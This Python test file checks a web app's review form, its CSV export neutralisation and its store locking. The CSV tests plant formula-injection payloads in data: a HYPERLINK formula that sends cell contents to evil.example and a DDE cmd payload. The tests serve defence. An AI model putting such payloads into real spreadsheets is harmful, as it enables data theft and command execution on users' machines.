"""Fixes from a user audit: the review form's reviewer and note go with every action, CSV exports
are safe to open in a spreadsheet, and the web app holds no lock on its store between requests."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from coalition_watch import api
from coalition_watch.cli import app as cli_app
from coalition_watch.errors import StoreError
from coalition_watch.outputs.briefing import build_briefing
from coalition_watch.outputs.exports import export_bytes
from coalition_watch.outputs.web import create_app
from coalition_watch.store import SessionStore, StoreBusy
from tests.conftest import SMALL_KB, held_open_elsewhere

from .conftest import PENDING_ID, add_hostile_content

# ---------------------------------------------------------------- the review form


@pytest.fixture()
def client(hostile_store):
    return TestClient(create_app(hostile_store, use=()))


def _row(html: str, relation_id: str) -> str:
    return re.search(rf'<tr class="review-row" id="rev-{re.escape(relation_id)}">.*?</tr>', html, re.S).group(0)


def test_each_review_row_has_one_reviewer_and_note_that_every_action_sends(client):
    row = _row(client.get("/review").text, PENDING_ID)
    assert row.count("<form") == 1  # accept, reject and edit submit the same fields
    assert row.count('name="reviewer"') == 1 and 'type="hidden" name="reviewer"' not in row
    assert row.count('name="note"') == 1
    for action in ("accept", "reject", "edit"):
        assert f'formaction="/review/{PENDING_ID}/{action}"' in row
    assert 'value="analyst"' not in row


class _Forms(HTMLParser):
    """The forms of a page as a browser submits them: each form's action, its fields (inputs,
    textareas, selects; also those outside it that name it with ``form=``) and its buttons."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: dict[str, dict] = {}
        self._open: str | None = None
        self._text: tuple[str, str] | None = None
        self._select: tuple[str, str] | None = None
        self._option_pending = False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self._open = a.get("id") or f"form-{len(self.forms)}"
            self.forms[self._open] = {"action": a.get("action"), "fields": [], "buttons": []}
            return
        owner = a.get("form") or self._open
        if owner is None:
            return
        form = self.forms.setdefault(owner, {"action": None, "fields": [], "buttons": []})
        if tag == "input" and a.get("name"):
            form["fields"].append({"name": a["name"], "value": a.get("value") or "", "hidden": a.get("type") == "hidden"})
        elif tag == "textarea" and a.get("name"):
            form["fields"].append({"name": a["name"], "value": "", "hidden": False})
            self._text = (owner, a["name"])
        elif tag == "select" and a.get("name"):
            form["fields"].append({"name": a["name"], "value": "", "hidden": False})
            self._select = (owner, a["name"])
        elif tag == "option" and self._select and ("selected" in a or not self.forms[self._select[0]]["fields"][-1]["value"]):
            self.forms[self._select[0]]["fields"][-1]["value"] = a.get("value", "")
            self._option_pending = "value" not in a
        elif tag == "button":
            form["buttons"].append({"class": a.get("class") or "", "action": a.get("formaction") or form["action"]})

    def handle_data(self, data):
        if self._option_pending and self._select:
            self.forms[self._select[0]]["fields"][-1]["value"] = data.strip()
            self._option_pending = False
        if self._text:
            self.forms[self._text[0]]["fields"][-1]["value"] += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._open = None
        elif tag == "textarea":
            self._text = None
        elif tag == "select":
            self._select = None


def _press(client, relation_id: str, button: str, typed: dict[str, str], htmx: bool = False):
    """Type ``typed`` into the visible fields of the /review row and press its ``button``, as a
    browser would send the form (the button's form, its formaction)."""
    parser = _Forms()
    parser.feed(_row(client.get("/review").text, relation_id))
    form, pressed = next((f, b) for f in parser.forms.values() for b in f["buttons"] if button in b["class"].split())
    data: dict[str, list[str]] = {}
    for field in form["fields"]:
        value = typed.get(field["name"], field["value"]) if not field["hidden"] else field["value"]
        data.setdefault(field["name"], []).append(value)
    headers = {"HX-Request": "true"} if htmx else {}
    return client.post(pressed["action"], data=data, headers=headers, follow_redirects=False)


@pytest.mark.parametrize("htmx", [False, True])
def test_reject_in_the_review_form_records_the_reviewer_typed_and_the_note(client, hostile_store, htmx):
    response = _press(client, PENDING_ID, "reject", {"reviewer": "alice", "note": "a duplicate"}, htmx)
    assert response.status_code == (200 if htmx else 303)
    audit = client.get("/api/review/audit", params={"relation_id": PENDING_ID}).json()
    assert [(a["action"], a["reviewer"], a["note"]) for a in audit] == [("reject", "alice", "a duplicate")]
    assert "alice" in client.get("/review").text  # the audit table on the page


def test_accept_and_edit_in_the_review_form_record_the_reviewer_typed(client):
    edited = _press(client, PENDING_ID, "edit", {"reviewer": "bob", "note": "dates fixed", "valid_from": "2021-06"})
    assert edited.status_code == 303
    assert _press(client, PENDING_ID, "accept", {"reviewer": "carol"}).status_code == 303
    audit = client.get("/api/review/audit", params={"relation_id": PENDING_ID}).json()
    assert [(a["action"], a["reviewer"]) for a in audit] == [("accept", "carol"), ("edit", "bob")]
    assert audit[0]["note"] is None and "dates fixed" in audit[1]["note"]


def test_a_review_without_a_reviewer_is_refused(client, hostile_store):
    response = client.post(f"/review/{PENDING_ID}/reject", data={"csrf_token": client.app.state.csrf, "reviewer": " "},
                           headers={"HX-Request": "true"})
    assert response.status_code == 400 and "reviewer" in response.json()["detail"]
    assert hostile_store.count("review_audit") == 0

# ---------------------------------------------------------------- CSV exports


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


TAB_CMD = "\t+cmd|' /C calc'!A0"


def _poison(store) -> None:
    """Actors named as formulas ('=', '@', a tab), evidence starting with '-', on the Syrian graph
    of 2019 (the hts-isis rivalry, sign -1)."""
    with store.transaction() as con:
        con.execute("UPDATE actors SET name = ? WHERE id = 'isis'", [HYPERLINK])
        con.execute("UPDATE actors SET name = '@SUM(A1:A9)' WHERE id = 'hts'")
        con.execute("UPDATE actors SET name = ? WHERE id = 'ahrar-al-sham'", [TAB_CMD])
        con.execute("UPDATE relations SET evidence = '-2+3 fighters were killed' WHERE type = 'rivalry'")


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def _assert_safe(rows: list[dict]) -> None:
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), row


def test_safe_cell_quotes_formula_text_only():
    from coalition_watch.outputs.exports import safe_cell

    assert [safe_cell(v) for v in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "", "a=b")] == \
        ["'=1+1", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "plain", "", "a=b"]
    assert [safe_cell(v) for v in (-1, -0.5, 0.9, None)] == [-1, -0.5, 0.9, None]


def test_csv_exports_neutralise_formulas_but_keep_negative_numbers(small_store):
    _poison(small_store)
    b = build_briefing(small_store, "SYR", "2019-12-31", use=())
    graph, members = b.sections["graph"].data, b.sections["members"].data
    relations = _rows(export_bytes(graph, members, "relations-csv"))
    _assert_safe(relations)
    rivalry = next(r for r in relations if r["type"] == "rivalry")
    assert rivalry["sign"] == "-1" and float(rivalry["confidence"]) > 0  # numbers stay numbers
    assert rivalry["evidence"] == "'-2+3 fighters were killed"
    assert (rivalry["source"], rivalry["target"]) == ("'@SUM(A1:A9)", "'" + HYPERLINK)
    people = {m["id"]: m for m in _rows(export_bytes(graph, members, "members-csv"))}
    _assert_safe(people.values())
    assert people["isis"]["name"] == "'" + HYPERLINK and people["ahrar-al-sham"]["name"] == "'" + TAB_CMD
    assert float(people["hts"]["strength"]) == 0.0
    graphml = export_bytes(graph, members, "graphml").decode()  # no spreadsheet format: text as it is
    assert ">=HYPERLINK(" in graphml and "'=HYPERLINK" not in graphml


def test_csv_exports_of_the_app_and_the_command_are_neutralised(small_store, tmp_path):
    _poison(small_store)
    web = TestClient(create_app(small_store, use=()))
    for name in ("relations.csv", "members.csv"):
        response = web.get(f"/export/SYR/{name}", params={"as_of": "2019-12-31"})
        assert response.status_code == 200
        rows = _rows(response.content)
        _assert_safe(rows)
        assert any("'" + HYPERLINK in row.values() for row in rows)
    for fmt in ("relations-csv", "members-csv"):
        out = tmp_path / f"{fmt}.csv"
        result = CliRunner().invoke(cli_app, ["export", "SYR", "--as-of", "2019-12-31", "--format", fmt,
                                              "--out", str(out), "--db", small_store.path])
        assert result.exit_code == 0, result.output
        _assert_safe(_rows(out.read_bytes()))

# ---------------------------------------------------------------- the store between requests


@pytest.fixture()
def store_file(tmp_path):
    path = tmp_path / "served.duckdb"
    store = api.init_store(path)
    api.load_kb(store, SMALL_KB)
    add_hostile_content(store)
    store.close()
    return path


def _other_process(code: str, path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, text=True, timeout=120)


READ_ELSEWHERE = ("import duckdb, sys; con = duckdb.connect(sys.argv[1], read_only=True); "
                  "print(con.execute('SELECT count(*) FROM actors').fetchone()[0])")
AUDIT_ELSEWHERE = ("import duckdb, sys; con = duckdb.connect(sys.argv[1]); "
                   "print(con.execute('SELECT reviewer FROM review_audit').fetchall())")


def test_other_processes_open_the_store_while_the_app_runs(store_file):
    web = TestClient(create_app(SessionStore(store_file), use=()))
    for url in ("/", "/review", "/api/cases", "/groups/taliban", "/countries/AFG?as_of=2021-08-15",
                "/api/graph?country=AFG&as_of=2021-08-15"):
        assert web.get(url).status_code == 200, url
    reader = _other_process(READ_ELSEWHERE, store_file)     # read-only, as `cwatch brief` opens it
    assert reader.returncode == 0 and reader.stdout.strip() == "12", reader.stderr
    form = {"csrf_token": web.app.state.csrf, "reviewer": "alice", "note": "n"}
    assert web.post(f"/review/{PENDING_ID}/reject", data=form, follow_redirects=False).status_code == 303
    writer = _other_process(AUDIT_ELSEWHERE, store_file)    # read-write, as `cwatch review accept` opens it
    assert writer.returncode == 0 and "alice" in writer.stdout, writer.stderr
    cli = subprocess.run([sys.executable, "-m", "coalition_watch.cli", "review", "list", "--status", "rejected",
                          "--json", "--db", str(store_file)], capture_output=True, text=True, timeout=120)
    assert cli.returncode == 0 and PENDING_ID in cli.stdout, cli.stderr
    assert web.get("/review").status_code == 200  # and the app carries on


def test_a_store_held_by_another_process_is_a_503_not_a_hang(store_file):
    web = TestClient(create_app(SessionStore(store_file, wait=0.3), use=()))
    child = held_open_elsewhere(store_file)
    try:
        api_answer = web.get("/api/cases")
        assert api_answer.status_code == 503 and "in use by another process" in api_answer.json()["detail"]
        page = web.get("/review")
        assert page.status_code == 503 and "in use by another process" in page.text
        assert web.get("/static/briefing.css").status_code == 200  # static files need no store
    finally:
        child.communicate("")
    assert web.get("/api/cases").status_code == 200


def test_session_store_modes_and_threads(store_file):
    store = SessionStore(store_file)
    with pytest.raises(StoreError, match="outside a session"):
        store.count("actors")
    errors: list[BaseException] = []

    def work(i: int) -> int:
        write = i % 4 == 0
        try:
            with store.session(write=write):
                assert store.read_only is not write
                if write:
                    with store.transaction() as con:
                        con.execute("INSERT INTO unresolved_names (name, context, count) VALUES (?, 'test', 1)",
                                    [f"name {i}"])
                return store.count("actors")
        except BaseException as exc:  # noqa: BLE001 - collected for the assertion
            errors.append(exc)
            raise

    with ThreadPoolExecutor(6) as pool:
        assert list(pool.map(work, range(40))) == [12] * 40
    assert not errors
    with store.session():
        assert store.count("unresolved_names") == 10
        with store.session():  # nested: the same session
            assert store.read_only
    # no lock is held now: a read-write open in another process works
    assert _other_process(AUDIT_ELSEWHERE, store_file).returncode == 0
    store.close()


def test_a_session_of_the_other_mode_waits_for_the_open_ones(store_file):
    store = SessionStore(store_file, wait=0.2)
    reading = store.open_session(write=False)
    try:
        with pytest.raises(StoreBusy, match="busy in this process"):
            store.open_session(write=True)
        done = threading.Event()

        def writer():
            with store.session(write=True):
                done.set()

        thread = threading.Thread(target=writer)
        store.wait = 5.0
        thread.start()
        assert not done.wait(0.2)  # waits for the reader
    finally:
        store.close_session(reading)
    thread.join(5)
    assert done.is_set()
    store.close()
